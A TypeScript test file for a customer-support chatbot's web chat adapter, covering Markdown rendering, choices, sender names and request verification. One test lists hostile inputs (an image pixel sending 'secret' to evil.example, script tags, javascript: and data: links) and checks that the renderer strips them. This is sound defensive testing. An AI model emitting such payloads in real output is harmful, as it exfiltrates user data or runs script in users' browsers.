import { expect } from 'chai';
import { render } from '../../../adapters/web/render.ts';
import { webChat } from '../../../adapters/web/channel.ts';
import type { OutboundMessage, RawRequest } from '../../../core/channel.ts';
import { NightdeskError } from '../../../core/error.ts';
import { begin } from '../../fakes/directLine.ts';
import { testStores } from '../../fakes/stores.ts';
import { openWebHost, testKey } from '../../fakes/webHost.ts';

const plain: OutboundMessage = { by: 'bot', text: 'Hello', choices: [], locale: 'en' };
const settings = {
  company: 'Meridian',
  home: 'https://chat.example',
  helpUrl: (id: string, locale: string) => `/help/${id}?lang=${locale}`,
};

describe('what web chat says', () => {
  it('is Markdown for stock clients and a tree for our widget', () => {
    const message = render({ ...plain, text: 'Freeze it **now**.\n\n- App\n- Phone' }, settings);
    expect(message).to.include({ type: 'message', textFormat: 'markdown', locale: 'en' });
    expect(message.text).to.equal('Freeze it **now**.\n\n- App\n- Phone');
    expect(message.channelData.nightdesk.blocks).to.deep.equal([
      {
        kind: 'paragraph',
        children: [
          { kind: 'text', text: 'Freeze it ' },
          { kind: 'strong', children: [{ kind: 'text', text: 'now' }] },
          { kind: 'text', text: '.' },
        ],
      },
      { kind: 'list', ordered: false, items: [[{ kind: 'text', text: 'App' }], [{ kind: 'text', text: 'Phone' }]] },
    ]);
  });

  it('loads nothing from elsewhere and holds no HTML in stock clients', () => {
    const hostile = [
      '![pixel](https://evil.example/?q=secret)',
      '<img src="https://evil.example/x.png">',
      '<script>alert(1)</script>',
      '<a href="javascript:alert(1)">x</a>',
      '[x](javascript:alert(1))',
      '[x](data:text/html,x)',
      '<button>Pay</button>',
      '![x][1]\n\n[1]: https://evil.example/y.png',
    ];
    for (const text of hostile) {
      const message = render({ ...plain, text }, settings);
      expect(message.text, text).to.not.match(/(?<!\\)!\[|(?<!\\)<(?!https:|\/help)/);
      expect(message.text, text).to.not.match(/\]\(<?(?:javascript|data):/i);
      expect(JSON.stringify(message.channelData.nightdesk.blocks), text).to.not.match(/"href":"(?:javascript|data):/i);
    }
  });

  it('offers choices in both ways, and more to our widget', () => {
    const message = render(
      {
        ...plain,
        choices: [{ id: 'lost', label: 'Lost card' }],
        asksHelped: true,
        offersPerson: true,
        source: { articleId: 'lost-card', title: 'Lost or stolen card', hash: 'h' },
      },
      settings,
    );
    expect(message.suggestedActions).to.deep.equal({
      actions: [{ type: 'imBack', title: 'Lost card', value: 'Lost card' }],
    });
    expect(message.channelData.nightdesk).to.deep.include({
      choices: [{ id: 'lost', label: 'Lost card' }],
      source: { title: 'Lost or stolen card', url: '/help/lost-card?lang=en' },
      asksHelped: true,
      offersPerson: true,
    });
    expect(message.text).to.equal('Hello\n\n[Lost or stolen card](<https://chat.example/help/lost-card?lang=en>)');
  });

  it('names the person who writes, and the company for everything else', () => {
    expect(render({ ...plain, by: 'agent', name: 'Ana' }, settings).from).to.deep.equal({
      id: 'agent',
      name: 'Ana',
      role: 'bot',
    });
    expect(render(plain, settings).from).to.deep.equal({ id: 'nightdesk', name: 'Meridian', role: 'bot' });
    expect(render({ ...plain, by: 'system' }, settings).channelData.nightdesk.by).to.equal('system');
  });

  it('keeps the lines of a person, who presses Enter where a new one begins', () => {
    const text = 'Hello\nHow can I help?';
    expect(render({ ...plain, by: 'agent', text }, settings).text).to.equal('Hello\\\nHow can I help?');
    expect(render({ ...plain, text }, settings).text).to.equal('Hello How can I help?');
  });
});

describe('web chat as a channel', () => {
  const stores = testStores('sqlite');

  it('verifies, reads and gives form like every channel, and sends nothing by itself', async () => {
    const host = await openWebHost(await stores.open());
    const ana = await begin(host.origin);
    const { store } = host;
    const channel = webChat({
      ...settings,
      door: store.turns,
      threads: store.threads,
      wakeups: store.wakeups,
      firstUse: store.firstUse,
      now: Date.now,
      newId: () => 'an-id',
      tokenKeys: [testKey],
      directLineSecrets: [],
      userSecrets: [],
      allowedOrigins: [],
      limits: { tokensPerMinute: 0, messagesPerMinute: 0, messagesPerHour: 0, uploadsPerHour: 0 },
      company: () => 'Meridian',
      locales: () => ['en'],
    });
    const request = (authorization: string, body: unknown): RawRequest => ({
      method: 'POST',
      url: '/',
      params: { id: ana.id },
      headers: { authorization },
      body: new TextEncoder().encode(JSON.stringify(body)),
      ip: '127.0.0.1',
    });
    const good = request(`Bearer ${ana.token}`, {
      type: 'message',
      text: 'Hi',
      channelData: { clientActivityID: 'm' },
    });
    expect(await channel.verify(good, Date.now())).to.equal('genuine');
    expect(await channel.verify(request('Bearer abc', {}), Date.now())).to.equal('forged');
    expect(await channel.verify(request('', {}), Date.now())).to.equal('forged');
    const [first] = channel.normalise(good, 5);
    const [again] = channel.normalise(good, 9);
    expect(first).to.deep.include({ kind: 'message', content: { kind: 'text', text: 'Hi' }, sentAt: 5 });
    expect(first)
      .to.have.property('externalId')
      .that.equals(again && 'externalId' in again ? again.externalId : '');
    expect(() => channel.normalise(request('', { type: 'message' }), 5)).to.throw(NightdeskError);
    expect(() => channel.normalise({ ...good, params: {} }, 5)).to.throw(NightdeskError);
    expect(channel.render(plain, { channel: 'web', account: 'web', peer: 'x' })).to.have.length(1);
    const sent = channel.send({} as never, { idempotencyKey: 'k', signal: AbortSignal.timeout(1000) });
    expect(await sent.catch((error: unknown) => error)).to.include({ code: 'delivery-refused' });
    await host.close();
  });
});
